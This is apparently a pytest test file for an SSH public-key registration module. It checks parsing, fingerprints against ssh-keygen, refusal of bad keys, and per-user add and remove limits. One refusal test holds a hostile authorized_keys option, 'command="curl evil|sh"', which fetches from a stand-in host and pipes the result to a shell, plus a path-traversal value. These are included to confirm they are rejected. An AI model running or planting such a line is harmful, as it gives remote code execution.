"""SSH public keys (workspace/ssh_keys.py): what is accepted, stored and refused, on real databases; fingerprints
checked against OpenSSH's own ssh-keygen."""

import shutil
import subprocess

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from workspace import ssh_keys
from workspace.errors import UserError


def openssh(key) -> str:
    return key.public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH).decode()


ED = openssh(ed25519.Ed25519PrivateKey.generate())
EC = openssh(ec.generate_private_key(ec.SECP256R1()))
RSA = openssh(rsa.generate_private_key(public_exponent=65537, key_size=2048))


def refused(text, status=400) -> str:
    with pytest.raises(UserError) as e:
        ssh_keys.parse(text)
    assert e.value.status_code == status
    return e.value.message


@pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="OpenSSH's ssh-keygen is not installed")
@pytest.mark.parametrize("line", [ED, EC, RSA], ids=["ed25519", "ecdsa", "rsa"])
def test_accepted_keys_keep_only_the_key_and_openssh_s_fingerprint(line, tmp_path):
    key, fingerprint, comment = ssh_keys.parse(f"  {line} ada@laptop  \n")
    assert key == line and comment == "ada@laptop"
    pub = tmp_path / "k.pub"
    pub.write_text(line + "\n")
    out = subprocess.run(["ssh-keygen", "-lf", str(pub)], capture_output=True, text=True, check=True).stdout
    assert out.split()[1] == fingerprint  # what the student's own `ssh-keygen -lf` prints


def test_what_is_refused_says_what_to_do():
    assert "empty" in refused("   ")
    assert "empty" in refused(None)
    assert "one key at a time" in refused(f"{ED} a\n{EC} b")
    # options would run a command or lift restrictions in authorized_keys: never accepted
    assert "not an OpenSSH public key" in refused(f'command="curl evil|sh" {ED}')
    assert "not an OpenSSH public key" in refused(f'no-pty,from="*" {ED}')
    assert "PRIVATE key" in refused("-----BEGIN OPENSSH PRIVATE KEY-----")
    assert "damaged" in refused("ssh-ed25519 AAAA%%%notbase64")
    assert "damaged" in refused("ssh-ed25519 " + ED.split()[1][:-8])  # truncated
    assert "longer than any public key" in refused("ssh-ed25519 " + "A" * 20000)
    small = openssh(rsa.generate_private_key(public_exponent=65537, key_size=1024))
    assert "1024 bits" in refused(small)
    assert "ssh-dss keys are not accepted" in refused("ssh-dss AAAAB3NzaC1kc3MAAACBAP")
    assert "not accepted" in refused("sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5")


def test_a_comment_is_one_printable_line():
    _, _, comment = ssh_keys.parse(f"{ED} me\x1b[31mred\x07 " + "x" * 300)
    assert "\x1b" not in comment and "\x07" not in comment and len(comment) == ssh_keys.MAX_COMMENT


def test_add_list_remove_and_the_limits(database):
    with database.session() as s:
        added = ssh_keys.add(s, "ada", ED + " laptop")
        assert added["type"] == "ssh-ed25519" and added["comment"] == "laptop"
        ssh_keys.add(s, "ada", EC, comment="lab machine")
        ssh_keys.add(s, "bob", ED)  # the same key for another user is theirs to register
    with database.session() as s:
        assert [k["comment"] for k in ssh_keys.listing(s, "ada")] == ["laptop", "lab machine"]
        with pytest.raises(UserError) as e:
            ssh_keys.add(s, "ada", ED + " again")
        assert e.value.status_code == 409 and "already" in e.value.message
    with database.session() as s:
        lines = ssh_keys.authorized_keys(s, "ada").splitlines()
        assert [line.split()[:2] for line in lines] == [ED.split(), EC.split()]  # only keys, no options
        assert sorted(ssh_keys.owner_of(s, added["fingerprint"])) == ["ada", "bob"]
    with database.session() as s:
        assert ssh_keys.remove(s, "ada", added["fingerprint"])["comment"] == "laptop"
        with pytest.raises(UserError) as e:
            ssh_keys.remove(s, "ada", added["fingerprint"])
        assert e.value.status_code == 404
        bobs = ssh_keys.listing(s, "bob")[0]["id"]
        with pytest.raises(UserError) as e:  # another user's key, by its number: not mine to remove
            ssh_keys.remove(s, "ada", bobs)
        assert e.value.status_code == 404
        with pytest.raises(UserError) as e:
            ssh_keys.remove(s, "ada", "../1")
        assert e.value.status_code == 400
    with database.session() as s:
        for _ in range(ssh_keys.MAX_KEYS - 1):
            ssh_keys.add(s, "cy", openssh(ed25519.Ed25519PrivateKey.generate()))
    with database.session() as s:
        ssh_keys.add(s, "cy", openssh(ed25519.Ed25519PrivateKey.generate()))
        with pytest.raises(UserError) as e:
            ssh_keys.add(s, "cy", openssh(ed25519.Ed25519PrivateKey.generate()))
        assert e.value.status_code == 409 and "the most" in e.value.message
